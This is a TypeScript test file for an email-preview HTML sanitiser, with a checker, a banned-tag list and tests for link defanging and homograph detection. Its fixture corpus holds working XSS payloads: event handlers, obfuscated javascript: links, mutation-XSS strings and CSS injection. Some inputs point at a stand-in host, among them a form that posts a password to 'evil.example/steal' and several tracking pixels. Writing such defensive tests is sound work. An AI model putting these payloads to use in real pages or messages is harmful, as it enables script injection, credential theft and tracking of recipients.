import {
  buildSrcdoc,
  cleanHref,
  defangUrl,
  isMisleadingLink,
  revealBidi,
  sanitizeEmailHtml,
  sanitizeStyleDeclarations,
  sanitizeStylesheet,
} from './safe-html';

/**
 * Everything that would make the preview active, leak, navigate or escape its box. The checker runs
 * on the srcdoc RE-PARSED, as the iframe will parse it (a parse/serialise round trip is where mXSS
 * hides), and it is shown to find every hostile input in its raw form (so it can fail).
 */
function violations(html: string, { allowRemoteImages = false } = {}): string[] {
  const doc = new DOMParser().parseFromString(html, 'text/html');
  const found: string[] = [];
  const banned =
    'script,iframe,frame,frameset,object,embed,applet,form,input,button,textarea,select,base,link,svg,math,' +
    'animate,set,video,audio,source,a,area,portal,template';
  // The whole document: a raw message puts its <style>, <meta>, <link>, <template> in the head.
  for (const el of Array.from(doc.querySelectorAll(banned))) found.push(`<${el.tagName.toLowerCase()}>`);
  for (const el of Array.from(doc.querySelectorAll('meta'))) {
    // The frame's own CSP/charset/referrer metas are ours; any other meta is an injection.
    const ours =
      (el.getAttribute('http-equiv') === 'Content-Security-Policy' &&
        el === doc.head.firstElementChild &&
        el.getAttribute('content')!.startsWith("default-src 'none'; img-src ")) ||
      (el.hasAttribute('charset') && el.attributes.length === 1) ||
      (el.getAttribute('name') === 'referrer' && el.getAttribute('content') === 'no-referrer');
    if (!ours || el.closest('body')) found.push('<meta>');
  }
  for (const el of Array.from(doc.querySelectorAll('*'))) {
    if (el.tagName === 'META') continue;
    for (const { name, value } of Array.from(el.attributes)) {
      const v = value.toLowerCase().replace(/\s+/g, '');
      if (name.startsWith('on')) found.push(`${name}=`);
      if (/<[a-z/!]/i.test(value)) found.push(`markup in ${name}=`);
      if (['href', 'xlink:href', 'action', 'formaction', 'srcset', 'poster', 'data'].includes(name))
        found.push(`${name}=`);
      if (/javascript:|vbscript:|data:text/.test(v)) found.push(`${name}=${value}`);
      if (name === 'src' && !(allowRemoteImages && /^(https:|data:image\/(png|gif|jpe?g|webp))/.test(v)))
        found.push(`src=${value}`);
      if (name === 'background' && !(allowRemoteImages && v.startsWith('https:'))) found.push('background=');
    }
  }
  const css = [
    ...Array.from(doc.querySelectorAll('style')).map((s) => s.textContent ?? ''),
    ...Array.from(doc.querySelectorAll('[style]')).map((e) => e.getAttribute('style') ?? ''),
  ].join('\n');
  const flat = css.toLowerCase().replace(/\s+/g, '');
  for (const bad of ['position:fixed', 'position:absolute', 'position:sticky', 'expression(', '@import', 'behavior:'])
    if (flat.includes(bad)) found.push(bad);
  if (flat.includes('-moz-binding')) found.push('-moz-binding');
  if (flat.includes('\\')) found.push('css escape');
  if (/url\(/.test(flat) && !(allowRemoteImages && !/url\((?!["']?https:)/.test(flat))) found.push('url(');
  if (/http:\/\/|https:\/\/evil|evil\.example/.test(doc.documentElement.innerHTML) && !allowRemoteImages)
    found.push('remote reference');
  return found;
}

/** [name, hostile HTML]. Each must be caught raw and neutralised after sanitising. */
// prettier-ignore
const CORPUS: [string, string][] = [
  ['script tag', '<p>hi</p><script>alert(1)</script>'],
  ['script in head', '<html><head><script src="https://evil.example/x.js"></script></head><body>x</body></html>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['body onload', '<body onload="alert(1)"><p>x</p></body>'],
  ['handlers everywhere', '<div onclick="alert(1)" onmouseover="alert(2)"><b onfocus=alert(3) tabindex=0>t</b></div>'],
  ['javascript: link', '<a href="javascript:alert(1)">click</a>'],
  ['mixed-case javascript:', '<a href="JaVaScRiPt:alert(1)">click</a>'],
  ['entity/tab-obfuscated javascript:', '<a href="java&#x09;script:alert(1)">a</a><a href="&#106;avascript:alert(1)">b</a>'],
  ['leading-space javascript:', '<a href="  javascript:alert(1)">click</a>'],
  ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">click</a>'],
  ['svg animate href', '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>'],
  ['svg set handler', '<svg><set attributeName="onmouseover" to="alert(1)"/><rect width="10" height="10"/></svg>'],
  ['svg onload', '<svg onload="alert(1)"></svg>'],
  ['svg use href', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>'],
  ['math xlink', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ['css position fixed', '<div style="position:fixed;top:0;left:0;width:100%;height:100%;color:red">overlay</div>'],
  ['css position absolute', '<div style="position : ABSOLUTE ; z-index:9999">x</div>'],
  ['css expression', '<div style="width: expression(alert(1))">x</div>'],
  ['css escaped url', '<div style="background: u\\72l(https://evil.example/x.png)">x</div>'],
  ['css behaviour', '<div style="behavior: url(https://evil.example/x.htc)">x</div>'],
  ['css binding', '<div style="-moz-binding: url(https://evil.example/x.xml#xss)">x</div>'],
  ['css @import', '<style>@import url(https://evil.example/x.css); p { color: red }</style><p>x</p>'],
  ['css @import string', '<style>@import "https://evil.example/x.css";</style>'],
  ['stylesheet position', '<style>.overlay { position: fixed; inset: 0 } .ok { color: red }</style>'],
  ['stylesheet expression', '<style>p { width: expression(alert(1)) }</style>'],
  ['stylesheet comment trick', '<style>p { background: url/**/(https://evil.example/x.png) }</style>'],
  ['font-face', '<style>@font-face { font-family: x; src: url(https://evil.example/f.woff) }</style>'],
  ['remote img', '<img src="https://evil.example/track.png" alt="Logo">'],
  ['remote http img', '<img src="http://evil.example/track.png">'],
  ['tracking pixel', '<img src="https://evil.example/p.gif" width="1" height="1">'],
  ['img srcset', '<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">'],
  ['picture source', '<picture><source srcset="https://evil.example/a.webp"><img alt="p"></picture>'],
  ['background attribute', '<table background="https://evil.example/bg.png"><tr><td background="https://evil.example/td.png">x</td></tr></table>'],
  ['css background image', '<div style="background-image: url(&quot;https://evil.example/bg.png&quot;)">x</div>'],
  ['data image', '<img src="data:image/png;base64,iVBORw0KGgo=">'],
  ['data svg image', '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">'],
  ['cid image', '<img src="cid:part1.abc@example">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['meta refresh in head', '<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head><body>x</body></html>'],
  ['meta csp override', '<meta http-equiv="Content-Security-Policy" content="default-src *">'],
  ['base tag', '<base href="https://evil.example/"><a href="/x">x</a>'],
  ['form action', '<form action="https://evil.example/steal" method="post"><input name="pw" type="password"><button formaction="https://evil.example/2">Go</button></form>'],
  ['iframe/object/embed', '<iframe src="https://evil.example"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['video poster', '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>'],
  ['mXSS noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>'],
  ['mXSS svg style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['mXSS math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  ['area href', '<map name="m"><area href="javascript:alert(1)" shape="rect" coords="0,0,1,1"></map>'],
  ['attribute breakout', '<p title="--><img src=x onerror=alert(1)>">x</p>'],
];

describe('safe preview sanitiser (DESIGN §7): hostile corpus', () => {
  it.each(CORPUS)('the checker sees the raw payload: %s', (_name, html) => {
    expect(violations(html).length).toBeGreaterThan(0);
  });

  it.each(CORPUS)('nothing survives: %s', (_name, html) => {
    const { srcdoc, body, rejected } = sanitizeEmailHtml(html);
    // Neutralised by the sanitiser itself, not by the last-resort check voiding the whole preview.
    expect(rejected).toBe(false);
    expect(violations(srcdoc)).toEqual([]);
    expect(body).not.toMatch(/javascript|alert\(|onerror|onload|evil\.example/i);
  });

  it.each(CORPUS)('nothing active survives once remote images are allowed either: %s', (_name, html) => {
    const { srcdoc, rejected } = sanitizeEmailHtml(html, { allowRemoteImages: true });
    expect(rejected).toBe(false);
    expect(violations(srcdoc, { allowRemoteImages: true })).toEqual([]);
    expect(srcdoc).not.toMatch(/javascript|alert\(|onerror|onload/i);
  });

  it('keeps the harmless content around the hostile bits', () => {
    const { body } = sanitizeEmailHtml(
      '<style>.ok { color: red } .bad { position: fixed }</style>' +
        '<p class="ok" style="color: blue; position: fixed; font-weight: bold">Hello <b>world</b></p>' +
        '<table width="600" bgcolor="#eee"><tr><td align="center">cell</td></tr></table>',
    );
    const doc = new DOMParser().parseFromString(body, 'text/html');
    expect(doc.querySelector('style')!.textContent).toBe('.ok{color: red}');
    expect(doc.querySelector('p')!.getAttribute('style')).toBe('color: blue; font-weight: bold');
    expect(doc.querySelector('p')!.textContent).toBe('Hello world');
    expect(doc.querySelector('table')!.getAttribute('width')).toBe('600');
    expect(doc.querySelector('td')!.getAttribute('align')).toBe('center');
  });

  it('keeps the <style> of the message head', () => {
    const { body } = sanitizeEmailHtml(
      '<html><head><title>T</title><style>h1 { color: green }</style></head><body><h1>Hi</h1></body></html>',
    );
    expect(body).toBe('<style>h1{color: green}</style><h1>Hi</h1>');
  });
});

describe('links become non-navigating spans, listed outside the frame', () => {
  it('rewrites anchors, keeps their text and shows the real target in a title', () => {
    const { body, links } = sanitizeEmailHtml(
      '<p>Go <a href="https://good.example/path?x=1" target="_blank" onclick="x()" style="color:red">here <i>now</i></a>' +
        ' or <a href="mailto:help@good.example">mail us</a> or <a href="javascript:alert(1)">bad</a>' +
        ' or <a href="https://good.example/path?x=1">again</a> or <a href="/relative">rel</a></p>',
    );
    const doc = new DOMParser().parseFromString(body, 'text/html');
    expect(doc.querySelectorAll('a')).toHaveLength(0);
    const spans = Array.from(doc.querySelectorAll('span.qc-link'));
    expect(spans.map((s) => s.getAttribute('title'))).toEqual([
      'https://good.example/path?x=1',
      'mailto:help@good.example',
      'https://good.example/path?x=1',
    ]);
    expect(spans[0]!.innerHTML).toBe('here <i>now</i>');
    expect(spans[0]!.getAttribute('style')).toBe('color: red');
    expect(spans[0]!.hasAttribute('target')).toBe(false);
    expect(doc.body.textContent).toContain('bad');
    expect(links).toEqual([
      { href: 'https://good.example/path?x=1', text: 'here now' },
      { href: 'mailto:help@good.example', text: 'mail us' },
    ]);
  });

  it('normalises targets (an IDN host shows as punycode) and refuses what is not http(s)/mailto', () => {
    expect(cleanHref('https://аpple.example/login')).toBe('https://xn--pple-43d.example/login');
    expect(cleanHref(' https://a.example/x y ')).toBe('https://a.example/x%20y');
    for (const bad of [
      'javascript:alert(1)',
      'data:text/html,x',
      '/relative',
      '//evil.example',
      'ftp://x.example',
      'ht\ttps://x.example',
      'https://',
    ])
      expect(cleanHref(bad)).toBeNull();
  });

  it('flags a link whose text shows another address', () => {
    expect(isMisleadingLink({ href: 'https://evil.example/x', text: 'https://bank.example/login' })).toBe(true);
    expect(isMisleadingLink({ href: 'https://evil.example/x', text: 'www.bank.example' })).toBe(true);
    expect(isMisleadingLink({ href: 'https://www.bank.example/x', text: 'bank.example' })).toBe(false);
    expect(isMisleadingLink({ href: 'https://evil.example/x', text: 'Click here' })).toBe(false);
  });
});

describe('remote images: removed until the user asks, then https only', () => {
  const html =
    '<img src="https://cdn.example/logo.png" alt="Logo" width="120" height="40">' +
    '<img src="http://cdn.example/plain.png" alt="Plain">' +
    '<img src="https://cdn.example/p.gif" width="1" height="1">' +
    '<table background="https://cdn.example/bg.png"><tr><td>x</td></tr></table>' +
    '<div style="background-image: url(https://cdn.example/bg2.png); color: red">y</div>' +
    '<style>.h { background: url("https://cdn.example/bg3.png") } .c { cursor: url(https://cdn.example/c.cur), auto }</style>' +
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">';

  it('by default: no image reference at all, placeholders with the alt text, a count for the banner', () => {
    const { body, blockedImages, srcdoc } = sanitizeEmailHtml(html);
    expect(body).not.toContain('cdn.example');
    expect(body).not.toContain('data:image');
    const doc = new DOMParser().parseFromString(body, 'text/html');
    expect(doc.querySelectorAll('img')).toHaveLength(0);
    expect(Array.from(doc.querySelectorAll('.qc-blocked-image')).map((p) => p.textContent)).toEqual([
      'Logo',
      'Plain',
      'inline',
    ]);
    expect(doc.querySelector('.qc-blocked-image')!.getAttribute('style')).toBe('width: 120px; height: 40px');
    expect(doc.querySelector('div')!.getAttribute('style')).toBe('color: red');
    // logo, pixel, table background, inline url(), stylesheet url(): the https ones only.
    expect(blockedImages).toBe(5);
    expect(srcdoc).toContain('img-src data:;');
  });

  it('after the opt-in: https images back, http and SVG/data documents still out, CSP widened to https', () => {
    const { body, blockedImages, srcdoc } = sanitizeEmailHtml(html, { allowRemoteImages: true });
    const doc = new DOMParser().parseFromString(body, 'text/html');
    expect(Array.from(doc.querySelectorAll('img')).map((i) => i.getAttribute('src'))).toEqual([
      'https://cdn.example/logo.png',
      'https://cdn.example/p.gif',
      'data:image/png;base64,iVBORw0KGgo=',
    ]);
    expect(body).not.toContain('http://cdn.example');
    expect(doc.querySelector('table')!.getAttribute('background')).toBe('https://cdn.example/bg.png');
    expect(doc.querySelector('div')!.getAttribute('style')).toBe(
      'background-image: url(https://cdn.example/bg2.png); color: red',
    );
    expect(doc.querySelector('style')!.textContent).toBe('.h{background: url("https://cdn.example/bg3.png")}');
    expect(blockedImages).toBe(0);
    expect(srcdoc).toContain('img-src https: data:;');
  });
});

describe('CSS filter', () => {
  const ctx = () => ({ allowRemoteImages: false, blockedImages: 0 });

  it('filters declarations one by one', () => {
    expect(sanitizeStyleDeclarations('color:red; position:fixed; margin: 0 auto', ctx())).toBe(
      'color: red; margin: 0 auto',
    );
    expect(sanitizeStyleDeclarations('position: relative !important', ctx())).toBe('position: relative !important');
    expect(sanitizeStyleDeclarations('font-family: "a;b", serif; color: blue', ctx())).toBe(
      'font-family: "a;b", serif; color: blue',
    );
    expect(sanitizeStyleDeclarations('--x: red; color: var(--x); width: calc(100% - 2px)', ctx())).toBe(
      'width: calc(100% - 2px)',
    );
    expect(sanitizeStyleDeclarations('color: red /* ; position: fixed */', ctx())).toBe('color: red');
    expect(sanitizeStyleDeclarations('background: image-set("x.png" 1x)', ctx())).toBe('');
  });

  it('keeps @media and drops every other at-rule and anything unbalanced', () => {
    expect(
      sanitizeStylesheet(
        '@media (max-width: 600px) { .a { color: red; position: absolute } } @page { margin: 0 } .b { color: blue',
        ctx(),
      ),
    ).toBe('@media (max-width: 600px){.a{color: red}}');
    expect(sanitizeStylesheet('@charset "utf-8"; @namespace x url(y); .c{color:red}', ctx())).toBe('.c{color: red}');
    expect(sanitizeStylesheet('.d{color:red}</style><script>alert(1)</script>', ctx())).not.toContain('<');
  });
});

describe('text helpers', () => {
  it('defangs URLs so they can be read, never clicked', () => {
    expect(defangUrl('https://evil.example.com/login.php?a=b')).toBe('hxxps://evil[.]example[.]com/login.php?a=b');
    expect(defangUrl('http://1.2.3.4:8080/x')).toBe('hxxp://1[.]2[.]3[.]4:8080/x');
    expect(defangUrl('HTTP://Evil.example')).toBe('hxxp://Evil[.]example');
    expect(defangUrl('evil.example/path.html')).toBe('evil[.]example/path.html');
    expect(defangUrl('mailto:a@evil.example')).toBe('mailto:a@evil[.]example');
  });

  it('reveals invisible direction controls (right-to-left override file names)', () => {
    expect(revealBidi('invoice\u202Efdp.exe')).toBe('invoice[U+202E]fdp.exe');
    expect(defangUrl('https://a\u200Bb.example')).toBe('hxxps://a[U+200B]b[.]example');
  });

  it('the frame document starts with its CSP', () => {
    expect(buildSrcdoc('<p>x</p>', false)).toMatch(
      /^<!DOCTYPE html><html><head><meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data:; style-src 'unsafe-inline';/,
    );
  });
});
